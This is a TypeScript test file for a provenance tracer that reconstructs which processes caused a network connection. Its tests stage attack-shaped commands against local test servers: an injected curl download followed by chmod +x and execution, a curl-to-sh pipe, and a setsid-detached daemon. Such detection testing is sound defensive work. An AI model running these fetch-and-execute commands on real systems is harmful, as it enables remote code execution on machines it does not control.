import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, expect, test } from "vitest";
import type { OriginChain } from "../../../src/core/query/model.ts";
import { copyOf, textOf, World } from "./world.ts";

let world: World;

beforeEach(async () => {
  world = await World.open();
});

afterEach(async () => {
  await world.close();
});

/** Titles of the steps, causes first. */
const titles = (chain: OriginChain) => chain.steps.map((step) => step.title);

/** Asserts that the steps matching the patterns appear in this order. */
function expectOrder(chain: OriginChain, ...patterns: RegExp[]): void {
  const found = patterns.map((pattern) => titles(chain).findIndex((title) => pattern.test(title)));
  expect(found.includes(-1), `${patterns.join(" ")} in\n${textOf(chain)}`).toBe(false);
  expect(found, textOf(chain)).toEqual([...found].sort((a, b) => a - b));
}

function expectMonotone(chain: OriginChain): void {
  for (const step of chain.steps) {
    const cause = chain.steps[step.cause];
    if (cause) expect(cause.atNs, textOf(chain)).toBeLessThanOrEqual(step.atNs);
  }
}

test("a server is told to download a program, make it executable and run it", async () => {
  const payload = join(world.folder, "served");
  copyOf("/usr/bin/curl", payload);
  const files = await world.role("files", payload);
  const sink = await world.role("sink");
  const server = await world.role("vulnerable");
  const dropped = join(world.folder, "k");
  const command = `curl -s http://127.0.0.1:${files.port}/k -o ${dropped}; chmod +x ${dropped}; ${dropped} -s http://127.0.0.1:${sink.port}/`;
  const attacker = await world.role("attacker", String(server.port), command);

  const row = await world.connectionTo(sink.port);
  const chain = world.origin({ kind: "connection", id: row.id });
  expectMonotone(chain);
  expectOrder(chain, /roles\.mjs attacker/, /roles\.mjs vulnerable/, /\/sh -c/, /^\d+ curl -s/, /^\d+ \S+\/k -s/);
  const pids = chain.steps.map((step) => world.pidOf(step.subject));
  expect(pids, textOf(chain)).toEqual(expect.arrayContaining([attacker.pid, server.pid]));
  const wrote = chain.steps.find((step) => step.link === "wrote" || /wrote/.test(step.explanation));
  expect(wrote, textOf(chain)).toBeDefined();
  expect(
    titles(chain).some((title) => title.includes(`:${files.port}`)),
    textOf(chain),
  ).toBe(true);
  const crossing = chain.steps.find((step) => world.pidOf(step.subject) === server.pid);
  expect(crossing?.explanation, textOf(chain)).toContain(`connected to 127.0.0.1:${server.port}`);
});

test("a script piped from curl into a shell connects", async () => {
  const sink = await world.role("sink");
  const script = join(world.folder, "i.sh");
  writeFileSync(script, `curl -s http://127.0.0.1:${sink.port}/ >/dev/null\n`);
  const files = await world.role("files", script);
  await world.shell(`curl -s http://127.0.0.1:${files.port}/i.sh | sh`);

  const row = await world.connectionTo(sink.port);
  const chain = world.origin({ kind: "connection", id: row.id });
  expectMonotone(chain);
  expectOrder(
    chain,
    /curl -s http:\/\/127\.0\.0\.1:\d+\/i\.sh/,
    /\d+ sh$/,
    new RegExp(`curl -s http://127.0.0.1:${sink.port}/`),
  );
  expect(
    chain.steps.some((step) => step.link === "piped" || step.link === "stdin"),
    textOf(chain),
  ).toBe(true);
  expect(
    titles(chain).some((title) => title.includes(`:${files.port}`)),
    textOf(chain),
  ).toBe(true);
});

test("a daemon keeps the parents that forked it", async () => {
  const sink = await world.role("sink");
  await world.shell(
    `(setsid sh -c 'exec curl -s http://127.0.0.1:${sink.port}/ >/dev/null' &) & wait; true named-parent`,
  );

  const row = await world.connectionTo(sink.port);
  const chain = world.origin({ kind: "connection", id: row.id });
  expectMonotone(chain);
  expectOrder(chain, /sh -c \(setsid/, new RegExp(`curl -s http://127.0.0.1:${sink.port}/`));
  const client = world.rows().find((each) => each.command.includes(`:${sink.port}/`) && each.name === "curl");
  expect(client, textOf(chain)).toBeDefined();
});

test("a broker connects because a client asked it over a unix socket", async () => {
  const sink = await world.role("sink");
  const path = join(world.folder, "broker.sock");
  const broker = await world.role("broker", path, `http://127.0.0.1:${sink.port}/`);
  const client = await world.role("client", path);

  const row = await world.connectionTo(sink.port);
  const chain = world.origin({ kind: "connection", id: row.id });
  expectMonotone(chain);
  const pids = chain.steps.map((step) => world.pidOf(step.subject));
  expect(pids, textOf(chain)).toContain(client.pid);
  expect(pids, textOf(chain)).toContain(broker.pid);
  const asked = chain.steps.find((step) => step.link === "local socket");
  expect(asked?.certainty, textOf(chain)).toBe("inferred");
});
